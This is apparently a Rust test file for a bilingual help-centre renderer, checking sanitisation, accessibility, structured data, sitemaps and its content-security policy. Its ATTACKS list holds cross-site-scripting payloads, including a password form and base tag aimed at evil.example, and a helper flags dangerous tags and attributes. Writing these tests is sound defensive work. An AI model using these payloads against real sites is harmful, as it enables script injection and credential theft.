//! The pages as search engines, assistive technology and browsers read them.

#![allow(clippy::unwrap_used)]

mod reading;

use proptest::prelude::*;
use quick_xml::events::Event;
use reading::{Tag, attribute, json, tags};
use yingda_helpcentre::*;
use yingda_model::{EntryId, EntryKind, Timestamp};

fn id(n: u128) -> EntryId {
    EntryId(uuid::Uuid::from_u128(n))
}

fn site() -> Site {
    let language = |lang: &str, name: &str| SiteLanguage {
        lang: lang.into(),
        name: name.into(),
        tagline: None,
        description: None,
        links: vec![SiteLink { title: "Shop".into(), url: "https://shop.example.com/?a=1&b=2".into() }],
    };
    Site {
        slug: "shop".into(),
        languages: vec![language("zh", "暖阳"), language("en", "Nuanyang")],
        default_language: "zh".into(),
        logo: None,
        accent: "#0b57d0".into(),
        contact: Some("mailto:help@example.com".into()),
        chat: Some(Chat { server: Some("https://desk.example.com".into()), inbox: "inbox_1".into() }),
    }
}

fn centre() -> Centre {
    Centre::new(site(), Place::new("https://example.com", "/help/shop", &["/files/"]).unwrap()).unwrap()
}

fn link(n: u128, title: &str, answer: Option<&str>) -> ArticleLink {
    ArticleLink {
        id: id(n),
        kind: if answer.is_some() { EntryKind::Faq } else { EntryKind::Article },
        title: title.into(),
        summary: summary(answer.unwrap_or(title)),
        updated_at: Timestamp(1_795_132_800_000),
        answer: answer.map(str::to_owned),
    }
}

fn category(path: &str, title: &str) -> Category {
    Category { path: path.into(), title: title.into(), description: title.into(), count: 2, children: vec![] }
}

fn article(title: &str, markdown: &str) -> Article {
    Article {
        id: id(7),
        kind: EntryKind::Article,
        title: title.into(),
        markdown: markdown.into(),
        lang: "zh".into(),
        categories: vec![category("returns", title)],
        tags: vec![title.into()],
        created_at: Timestamp(1_790_000_000_000),
        updated_at: Timestamp(1_795_132_800_000),
        translations: vec![Translation { lang: "en".into(), id: id(8), title: "Return & exchange".into() }],
        helped: (9, 1),
        attachments: vec![Attachment { name: title.into(), url: markdown.into(), bytes: 10 }],
        related: vec![link(9, title, None)],
    }
}

/// Every kind of page with the text wherever a text can be.
fn every_page(text: &str) -> Vec<Page> {
    let centre = centre();
    let mut pages = vec![];
    for lang in ["zh", "en"] {
        let mut above = category(text, text);
        above.children = vec![category(text, text)];
        let home = Home {
            categories: vec![above.clone()],
            popular: vec![link(1, text, None)],
            recent: vec![link(2, text, Some(text))],
        };
        pages.push(centre.home(lang, &home).unwrap());
        let listing = CategoryPage {
            category: above.clone(),
            above: vec![above],
            articles: vec![link(1, text, Some(text)), link(2, text, None)],
            page: 2,
            pages: 3,
            translations: vec!["en".into()],
        };
        pages.push(centre.category(lang, &listing).unwrap());
        for state in
            [FeedbackState::Ask, FeedbackState::Voted(Vote::Unhelpful), FeedbackState::Commented, FeedbackState::Failed]
        {
            pages.push(centre.article(lang, &article(text, text), state).unwrap());
        }
        let mut faq = article(text, text);
        faq.kind = EntryKind::Faq;
        pages.push(centre.article(lang, &faq, FeedbackState::Ask).unwrap());
        let marked = Marked { text: text.into(), matches: vec![0..3, 2..9] };
        let search = SearchPage {
            query: text.into(),
            results: vec![SearchResult {
                id: id(3),
                title: marked.clone(),
                snippet: marked,
                category: Some(text.into()),
                anchor: Some(text.into()),
                lang: "en".into(),
            }],
            total: 1,
            did_you_mean: Some(format!("{text}!")),
            answer: Some(SearchAnswer {
                markdown: text.into(),
                id: id(4),
                title: text.into(),
                anchor: Some(text.into()),
                lang: "zh".into(),
            }),
            popular: vec![link(5, text, None)],
        };
        pages.push(centre.search(lang, &search).unwrap());
        pages.push(centre.search(lang, &SearchPage { query: text.into(), ..SearchPage::default() }).unwrap());
        pages.push(centre.gone(lang, &[link(6, text, None)]).unwrap());
        pages.push(centre.not_found(lang).unwrap());
    }
    pages
}

/// What a hostile page could do anything with.
fn active(tags: &[Tag]) -> Vec<String> {
    let mut found = vec![];
    for tag in tags {
        let fine = [
            "html",
            "head",
            "meta",
            "title",
            "link",
            "script",
            "body",
            "a",
            "header",
            "div",
            "img",
            "b",
            "span",
            "form",
            "label",
            "input",
            "button",
            "svg",
            "circle",
            "path",
            "nav",
            "ul",
            "li",
            "main",
            "aside",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "p",
            "footer",
            "section",
            "ol",
            "time",
            "details",
            "summary",
            "mark",
            "article",
            "textarea",
            "strong",
            "em",
            "code",
            "pre",
            "blockquote",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td",
            "hr",
            "br",
            "del",
            "i",
            "s",
            "u",
            "sub",
            "sup",
            "small",
            "kbd",
            "q",
            "cite",
            "abbr",
            "ins",
            "dl",
            "dt",
            "dd",
            "figure",
            "figcaption",
            "caption",
            "dfn",
            "samp",
        ];
        if !fine.contains(&tag.name.as_str()) {
            found.push(format!("<{}>", tag.name));
        }
        for (name, value) in &tag.attributes {
            let plain: String =
                value.chars().filter(|c| !c.is_control() && *c != ' ').collect::<String>().to_lowercase();
            let scheme = plain
                .split(['/', '?', '#'])
                .next()
                .unwrap_or_default()
                .split_once(':')
                .map(|(scheme, _)| scheme.to_owned());
            let bad_link = ["href", "src", "action", "formaction"].contains(&name.as_str())
                && scheme.is_some_and(|scheme| !["http", "https", "mailto", "tel"].contains(&scheme.as_str()));
            if name.starts_with("on") || name == "style" || name == "srcdoc" || name == "formaction" || bad_link {
                found.push(format!("{name}={value}"));
            }
            if tag.name == "img" && name == "src" && !value.starts_with("/files/") {
                found.push(format!("picture {value}"));
            }
        }
        if tag.name == "script" {
            let known = match attribute(tag, "src") {
                Some(src) => {
                    src.starts_with("/help/shop/assets/help-") || src == "https://desk.example.com/widget/yingda.js"
                }
                None => attribute(tag, "type") == Some("application/ld+json"),
            };
            if !known {
                found.push(format!("script {:?}", tag.attributes));
            }
        }
    }
    found
}

const ATTACKS: [&str; 20] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "<a href=\"javascript:alert(1)\" onclick=alert(1)>x</a>",
    "<svg onload=alert(1)><style>*{}</style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<p style=\"background:url(javascript:alert(1))\" id=main_>x</p>",
    "# <img src=x onerror=alert(1)> {#x onclick=alert(1)}",
    "![x](https://evil.example/pixel.png)",
    "<form action=https://evil.example><input name=password></form><base href=//evil.example>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "| a |\n|---|\n| <td onmouseover=alert(1)> |\n\n</article></main><h1>x",
];

#[test]
fn nothing_that_is_written_becomes_active() {
    for attack in ATTACKS {
        for page in every_page(attack) {
            let found = active(&tags(&page.body));
            assert!(found.is_empty(), "{attack}: {found:?}\n{}", page.body);
        }
    }
}

fn mixture() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        proptest::sample::select(&ATTACKS[..]).prop_map(str::to_owned),
        proptest::sample::select(vec![
            "<", ">", "\"", "'", "`", "&#", "](", "![", "\n\n", "\n> ", "- ", "# ", "|", "-->", "<!--", "\0",
            "\u{2028}"
        ])
        .prop_map(str::to_owned),
        "\\PC{0,12}",
    ];
    proptest::collection::vec(piece, 1..8).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn no_mixture_becomes_active_and_all_structured_data_can_be_read(text in mixture()) {
        for page in every_page(&text) {
            let tags = tags(&page.body);
            let found = active(&tags);
            prop_assert!(found.is_empty(), "{text:?}: {found:?}");
            json(&page.body);
            let mut ids: Vec<_> = tags.iter().filter_map(|tag| attribute(tag, "id")).collect();
            ids.sort_unstable();
            let count = ids.len();
            ids.dedup();
            prop_assert_eq!(ids.len(), count, "an id is there twice: {:?}", text);
        }
    }

    #[test]
    fn every_anchor_is_there_once(headings in proptest::collection::vec("(faq|faq 2|FAQ|[a-c]{1,2}|退货|!)", 1..30)) {
        let markdown: String = headings.iter().map(|heading| format!("# {heading}\n\n")).collect();
        let page = centre().article("zh", &article("t", &markdown), FeedbackState::Ask).unwrap();
        let mut anchors = Anchors::default();
        for heading in &headings {
            let anchor = anchors.next(heading);
            prop_assert_eq!(page.body.matches(&format!(" id=\"{anchor}\">")).count(), 1, "{}", anchor);
        }
    }
}

#[test]
fn an_article_says_what_it_is() {
    let page = centre().article("zh", &article("七天退货", "## 条件\n\n文字。"), FeedbackState::Ask).unwrap();
    let html = &page.body;
    assert!(html.contains("<html lang=\"zh-CN\" dir=\"ltr\">"), "{html}");
    let own = centre().place().article("zh", "七天退货", id(7));
    let english = centre().place().article("en", "Return & exchange", id(8));
    for expected in [
        format!("<link rel=\"canonical\" href=\"https://example.com{own}\">"),
        format!("<link rel=\"alternate\" hreflang=\"zh-CN\" href=\"https://example.com{own}\">"),
        format!("<link rel=\"alternate\" hreflang=\"en\" href=\"https://example.com{english}\">"),
        format!("<link rel=\"alternate\" hreflang=\"x-default\" href=\"https://example.com{own}\">"),
        format!("<li><a href=\"{english}\" lang=\"en\" hreflang=\"en\">English</a></li>"),
        "<meta property=\"og:type\" content=\"article\">".to_owned(),
        "<title>七天退货 · 暖阳帮助中心</title>".to_owned(),
        "<time datetime=\"2026-11-20T00:00:00Z\">2026 年 11 月 20 日</time>".to_owned(),
        "10 人中有 9 人觉得有帮助".to_owned(),
    ] {
        assert!(html.contains(&expected), "expected {expected} in\n{html}");
    }
    let data = json(html);
    let types: Vec<_> = data.iter().map(|data| data["@type"].as_str().unwrap().to_owned()).collect();
    assert_eq!(types, ["BreadcrumbList", "TechArticle"]);
    assert_eq!(data[0]["itemListElement"].as_array().unwrap().len(), 3);
    assert_eq!(data[1]["dateModified"], "2026-11-20T00:00:00Z");
}

#[test]
fn questions_of_a_category_are_told_to_search_engines() {
    let articles = vec![link(1, "几天？", Some("签收后 **7 天**。")), link(2, "文章", None)];
    let page =
        CategoryPage {
            category: category("returns", "退货"), articles, page: 1, pages: 1, ..CategoryPage::default()
        };
    let page = centre().category("zh", &page).unwrap();
    let data = json(&page.body);
    assert_eq!(data[1]["@type"], "FAQPage");
    assert_eq!(data[1]["mainEntity"][0]["acceptedAnswer"]["text"], "签收后 7 天。");
    assert_eq!(data[1]["mainEntity"].as_array().unwrap().len(), 1);
}

#[test]
fn pages_have_landmarks_and_headings_in_order() {
    for page in every_page("# 一\n\n### 二\n\n## 三\n\n词") {
        let tags = tags(&page.body);
        let count = |name: &str| tags.iter().filter(|tag| tag.name == name).count();
        assert_eq!((count("main"), count("h1"), count("header"), count("footer")), (1, 1, 1, 1));
        let levels: Vec<u8> =
            tags.iter().filter_map(|tag| tag.name.strip_prefix('h').and_then(|level| level.parse().ok())).collect();
        for pair in levels.windows(2) {
            assert!(pair[1] <= pair[0] + 1, "{levels:?}");
        }
        let labelled: Vec<_> = tags.iter().filter_map(|tag| attribute(tag, "for")).collect();
        for field in tags.iter().filter(|tag| tag.name == "input" && attribute(tag, "type") == Some("search")) {
            assert!(labelled.contains(&attribute(field, "id").unwrap()));
        }
    }
}

#[test]
fn an_article_without_pictures_is_small() {
    let page = centre().article("zh", &article("标题", ""), FeedbackState::Ask).unwrap();
    assert!(page.body.len() < 12_000, "{} bytes", page.body.len());
    let text = "第一段文字，说明退货的条件。\n\n".repeat(500);
    let mut longer = article("标题", &text);
    longer.attachments.clear();
    let longer = centre().article("zh", &longer, FeedbackState::Ask).unwrap();
    assert!(longer.body.len() < 20_000 + text.len(), "{} bytes for {} of text", longer.body.len(), text.len());
}

#[test]
fn files_are_kept_for_ever_under_names_of_their_content() {
    let centre = centre();
    let page = centre.not_found("en").unwrap();
    let style = page.body.split("/assets/").nth(1).unwrap().split('"').next().unwrap().to_owned();
    let icon = centre.asset(&style).unwrap();
    assert_eq!(icon.keep, Keep::Forever);
    let names: Vec<String> =
        page.body.split("/assets/").skip(1).map(|rest| rest.split('"').next().unwrap().to_owned()).collect();
    assert_eq!(names.len(), 3, "{names:?}");
    for name in &names {
        assert_eq!(centre.asset(name).unwrap().keep, Keep::Forever, "{name}");
    }
    assert_eq!(centre.asset("help-0000000000000000.css").unwrap().keep, Keep::Ask);
    for name in ["", "help.css", "other-1.css", "help-1.exe", "../help-1.css", "icon-1.css"] {
        assert!(centre.asset(name).is_none(), "{name}");
    }
    let mut other = site();
    other.accent = "#c2410c".into();
    let other = Centre::new(other, centre.place().clone()).unwrap().not_found("en").unwrap();
    assert!(!other.body.contains(names.iter().find(|name| name.ends_with(".css")).unwrap().as_str()));
}

#[test]
fn the_policy_allows_the_chat_and_nothing_inline() {
    let page = centre().not_found("en").unwrap();
    assert_eq!(page.status, 404);
    let headers = page.headers();
    let policy = &headers.iter().find(|(name, _)| *name == "content-security-policy").unwrap().1;
    assert!(policy.contains("script-src 'self' https://desk.example.com;"), "{policy}");
    assert!(policy.contains("connect-src 'self' https://desk.example.com wss://desk.example.com;"), "{policy}");
    assert!(policy.contains("style-src 'self';") && !policy.contains("unsafe"), "{policy}");
    assert!(!page.is_known(Some(&page.etag), None), "what is not there is always said");
    let home = centre().home("zh", &Home::default()).unwrap();
    assert!(home.is_known(Some(&home.etag), None));
    assert_eq!(home.etag, centre().home("zh", &Home::default()).unwrap().etag);
}

/// Names and texts of an XML document, which must be well-formed.
fn xml(body: &str) -> Vec<(String, String)> {
    let mut reader = quick_xml::Reader::from_str(body);
    let (mut found, mut open): (Vec<(String, String)>, Vec<String>) = (vec![], vec![]);
    loop {
        match reader.read_event().unwrap() {
            Event::Start(tag) => open.push(tag.name().as_ref().to_owned()),
            Event::Empty(tag) => {
                let values: Vec<_> = tag.attributes().map(|attribute| attribute.unwrap().value.into_owned()).collect();
                found.push((tag.name().as_ref().to_owned(), values.join(" ")));
            }
            Event::Text(text) => {
                if let Some(name) = open.last() {
                    found.push((name.clone(), text.as_ref().to_owned()));
                }
            }
            Event::End(tag) => assert_eq!(open.pop().unwrap(), tag.name().as_ref()),
            Event::Eof => break,
            _ => {}
        }
    }
    assert!(open.is_empty());
    found
}

#[test]
fn the_sitemap_has_every_page_in_every_language() {
    let centre = centre();
    let english = Translation { lang: "en".into(), id: id(8), title: "A & B".into() };
    let mut entries = centre.sitemap_homes(Some(Timestamp(0)));
    entries.push(centre.sitemap_article("zh", &link(7, "甲<乙>", None), &[english]));
    entries.push(centre.sitemap_category("zh", "returns", &["zh"], None));
    let files = centre.sitemap(&entries);
    assert_eq!(files.len(), 1);
    let found = xml(&files[0].1.body);
    let locations: Vec<_> = found.iter().filter(|(name, _)| name == "loc").map(|(_, text)| text.as_str()).collect();
    assert_eq!(locations.len(), 4);
    assert_eq!(locations[0], "https://example.com/help/shop/zh/");
    assert_eq!(locations[3], "https://example.com/help/shop/zh/c/returns");
    assert_eq!(found.iter().filter(|(name, _)| name == "xhtml:link").count(), 9, "three for each of the first three");
    assert!(found.contains(&("lastmod".into(), "2026-11-20T00:00:00Z".into())));
}

#[test]
fn a_large_sitemap_is_split() {
    let centre = centre();
    let entries: Vec<_> = (0..100_001)
        .map(|n| {
            centre.sitemap_category("zh", &format!("c{n}"), &["zh"], Some(Timestamp(1_795_132_800_000 + n * 1000)))
        })
        .collect();
    let files = centre.sitemap(&entries);
    let names: Vec<_> = files.iter().map(|(name, _)| name.as_str()).collect();
    assert_eq!(names, ["sitemap.xml", "sitemap-1.xml", "sitemap-2.xml", "sitemap-3.xml"]);
    assert_eq!(files[1].1.body.matches("<loc>").count(), 50_000);
    assert_eq!(files[3].1.body.matches("<loc>").count(), 1);
    assert!(xml(&files[0].1.body).contains(&("loc".into(), "https://example.com/help/shop/sitemap-3.xml".into())));
}

#[test]
fn the_feed_and_robots_can_be_read() {
    let centre = centre();
    let feed = centre.feed("zh", &[link(1, "甲 & <乙>\u{1}", Some("答"))]);
    let found = xml(&feed.body);
    assert!(found.iter().any(|(name, text)| name == "id" && text == &format!("urn:uuid:{}", id(1))));
    assert!(feed.body.contains("<title>甲 &amp; &lt;乙&gt;</title>"));
    assert!(centre.robots().body.contains("Sitemap: https://example.com/help/shop/sitemap.xml\n"));
}

#[test]
fn a_text_in_another_language_says_so() {
    let mut english = article("Returns", "Text");
    english.lang = "en".into();
    let page = centre().article("zh", &english, FeedbackState::Ask).unwrap();
    assert!(page.body.contains("<article class=\"text\" lang=\"en\" dir=\"ltr\""), "{}", page.body);
    assert!(page.body.contains("<span class=\"badge\">内容为 <span lang=\"en\">English</span></span>"));
    assert!(page.body.contains("rel=\"canonical\" href=\"https://example.com/help/shop/en/a/"));
}

#[test]
fn searches_are_not_listed_and_say_what_was_found() {
    let search = SearchPage { query: "  退货 ".into(), total: 0, ..SearchPage::default() };
    let page = centre().search("zh", &search).unwrap();
    assert!(page.body.contains("<meta name=\"robots\" content=\"noindex\">"));
    assert!(
        page.body.contains("<div role=\"status\"><h1 class=\"smaller\">没有找到与“退货”相关的内容</h1></div>"),
        "{}",
        page.body
    );
    assert!(page.body.contains("value=\"退货\""));
    assert!(page.body.contains("mailto:help@example.com"), "contact is offered");
    assert_eq!(page.keep, Keep::Private);
}
